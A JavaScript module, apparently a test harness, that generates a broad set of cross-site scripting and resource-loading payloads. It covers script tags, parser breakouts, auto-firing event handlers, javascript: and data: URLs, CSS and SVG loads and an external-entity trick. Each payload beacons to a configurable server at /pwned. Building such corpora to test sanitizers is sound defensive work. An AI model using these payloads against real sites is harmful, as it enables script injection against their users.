// Texts that would run a script or load something if a page took them for HTML, SVG, CSS or a URL. Each carries a
// sentinel: what it would run asks the server for /pwned, and so does what it would load.

/** What a payload runs: it leaves a mark in whatever window it reaches, and on the server. */
function script(address, n) {
  return `try{top.pwned=${n}}catch(e){}self.pwned=${n};new Image().src='${address}/pwned?${n}'`;
}

/** All payloads for a server at this address. */
export function payloads(address) {
  const made = [];
  const add = (make) => made.push(make(script(address, made.length), `${address}/pwned?${made.length}`));
  const attribute = (code) => code.replaceAll("&", "&amp;").replaceAll('"', "&quot;");

  // Elements that run a script by themselves.
  const scripts = [
    (js) => `<script>${js}</script>`,
    (js) => `<ScRiPt >${js}</sCrIpT >`,
    (js) => `<script type="module">${js}</script>`,
    (_, url) => `<script src="${url}"></script>`,
    (_, url) => `<script src=${url} async></script>`,
    (_, url) => `<script type="module" src="${url}"></script>`,
    (_, url) => `<script>import("${url}")</script>`,
    (js) => `"><script>${js}</script>`,
    (js) => `'><script>${js}</script>`,
    (js) => `</title><script>${js}</script>`,
    (js) => `</textarea><script>${js}</script>`,
    (js) => `</style><script>${js}</script>`,
    (js) => `</script><script>${js}</script>`,
    (js) => `</pre><script>${js}</script>`,
    (js) => `--><script>${js}</script>`,
    (js) => `]]><script>${js}</script>`,
    (js) => `<!--><script>${js}</script>-->`,
    (js) => `<noscript><p title="</noscript><script>${js}</script>">`,
    (js) => `<template><script>${js}</script></template><script>${js}</script>`,
    (js) => `<scr\0ipt>${js}</scr\0ipt><script>${js}</script>`,
    (js) => `<math><mtext><script>${js}</script></mtext></math>`,
    (js) => `<svg><script>${js}</script></svg>`,
    (js) => `<svg><script href="data:text/javascript,${encodeURIComponent(js)}"></script></svg>`,
    (_, url) => `<svg><script xlink:href="${url}"></script></svg>`,
    (js) => `<svg><foreignObject><script xmlns="http://www.w3.org/1999/xhtml">${js}</script></foreignObject></svg>`,
    (js) => `<svg><![CDATA[><script>${js}</script>]]></svg>`,
    (js) => `<xmp><p title="</xmp><script>${js}</script>">`,
    (js) => `<select><option></select><script>${js}</script>`,
    (js) => `<table><tr><td><script>${js}</script>`,
    (js) => `<frameset><frame src="javascript:${attribute(js)}"></frameset>`,
  ];
  scripts.forEach(add);

  // Handlers that fire without anybody doing anything.
  const handlers = [
    ["img", "src=x", "onerror"],
    ["img", "src", "onerror"],
    ["img", 'srcset="x 1x"', "onerror"],
    ["image", "src=x", "onerror"],
    ["svg", "", "onload"],
    ["svg/", "", "onload"],
    ["body", "", "onload"],
    ["body", "", "onpageshow"],
    ["body", "", "onfocus"],
    ["iframe", "", "onload"],
    ["iframe", 'srcdoc="x"', "onload"],
    ["object", 'data="x"', "onerror"],
    ["embed", 'src="x"', "onerror"],
    ["embed", 'src="data:text/html,x"', "onload"],
    ["video", "", "onloadstart"],
    ["video", "src=x", "onerror"],
    ["video", "autoplay src=x", "onsuspend"],
    ["video><source", "src=x", "onerror"],
    ["audio", "src=x", "onerror"],
    ["audio><source", "", "onerror"],
    ["input", "autofocus", "onfocus"],
    ["input", "type=image src=x", "onerror"],
    ["select", "autofocus", "onfocus"],
    ["textarea", "autofocus", "onfocus"],
    ["keygen", "autofocus", "onfocus"],
    ["button", "autofocus", "onfocus"],
    ["a", 'href="#" autofocus', "onfocus"],
    ["details", "open", "ontoggle"],
    ["dialog", "open", "onfocusin"],
    ["marquee", "", "onstart"],
    ["style", "", "onload"],
    ["link", 'rel=stylesheet href="data:text/css,x"', "onload"],
    ["link", 'rel=stylesheet href="x:x"', "onerror"],
    ["script", "src=x:x", "onerror"],
    ["track", "src=x", "onerror"],
    ["div", 'style="animation:x 1ms" id=a', "onanimationstart"],
    ["div", 'style="transition:color 1ms;color:red"', "ontransitionend"],
    ["div", "contenteditable autofocus tabindex=0", "onfocus"],
    ["math", "", "onload"],
    ["form><button", "autofocus", "onfocus"],
    ["p", "popover", "onbeforetoggle"],
    ["div", 'hidden="until-found"', "onbeforematch"],
    ["svg><animate", "attributeName=x dur=1ms", "onbegin"],
    ["svg><animate", "attributeName=x dur=1ms", "onend"],
    ["svg><set", "attributeName=x dur=1ms", "onbegin"],
    ["svg><image", 'href="x"', "onerror"],
    ["svg><image", 'xlink:href="x"', "onerror"],
    ["svg><use", 'href="x"', "onerror"],
    ["svg><style", "", "onload"],
    ["svg><a", 'href="#" autofocus tabindex=0', "onfocus"],
  ];
  for (const [tag, attributes, handler] of handlers) {
    add((js) => `<${tag} ${attributes} ${handler}="${attribute(js)}">`);
    add((js) => `"'><${tag.toUpperCase()}\t${attributes}\n${handler.toUpperCase()}="${attribute(js)}">`);
  }

  // URLs that are scripts, where something follows them by itself or as an attribute.
  const urls = [
    (url) => `<iframe src="${url}"></iframe>`,
    (url) => `<object data="${url}"></object>`,
    (url) => `<embed src="${url}">`,
    (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
    (url) => `<form action="${url}"><input type=submit autofocus></form>`,
    (url) => `<a href="${url}" ping="${url}">x</a>`,
    (url) => `<base href="${url}//">`,
    (url) => `<svg><a><animate attributeName="href" values="${url}"/><text>x</text></a></svg>`,
    (url) => `<svg><use href="${url}"/></svg>`,
    (url) => `<svg><set attributeName="href" to="${url}"/></svg>`,
    (url) => `<math href="${url}"><mtext>x</mtext></math>`,
    (url) => `<link rel="import" href="${url}">`,
    (url) => `<body background="${url}">`,
    (url) => `<table background="${url}">`,
    (url) => `<img src="${url}">`,
  ];
  for (const place of urls) {
    add((js) => place(`javascript:${attribute(js)}`));
    add((js) => place(`java\tscript&colon;${attribute(js)}`));
    add((js) => place(`data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString("base64")}`));
    add((_, url) => place(url));
  }

  // What loads without a script: it tells that the text was shown, and what was in it.
  const loads = [
    (url) => `<link rel="stylesheet" href="${url}">`,
    (url) => `<link rel="preload" as="image" href="${url}">`,
    (url) => `<link rel="prefetch" href="${url}">`,
    (url) => `<link rel="dns-prefetch" href="${url}"><link rel="preconnect" href="${url}"><link rel="icon" href="${url}">`,
    (url) => `<style>@import url("${url}");</style>`,
    (url) => `<style>*{background:url("${url}")}</style>`,
    (url) => `<style>@font-face{font-family:x;src:url("${url}")}*{font-family:x}</style>`,
    (url) => `<style>*{list-style:url("${url}");cursor:url("${url}"),auto;content:url("${url}")}</style>`,
    (url) => `<div style="background:url(${url})">x</div>`,
    (url) => `<div style="border-image:url(${url}) 30;mask:url(${url}#m);filter:url(${url}#f)">x</div>`,
    (url) => `<video poster="${url}" src="${url}"></video>`,
    (url) => `<audio src="${url}" autoplay></audio>`,
    (url) => `<picture><source srcset="${url}"><img src="${url}"></picture>`,
    (url) => `<svg><image href="${url}" width="9" height="9"/></svg>`,
    (url) => `<svg><style>@import "${url}";</style></svg>`,
    (url) => `<svg><filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    (url) => `<?xml-stylesheet href="${url}"?><svg xmlns="http://www.w3.org/2000/svg"/>`,
    (url) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>`,
    (url) => `<html manifest="${url}">`,
    (url) => `<input type="image" src="${url}">`,
  ];
  loads.forEach((load) => add((_, url) => load(url)));
  return made;
}
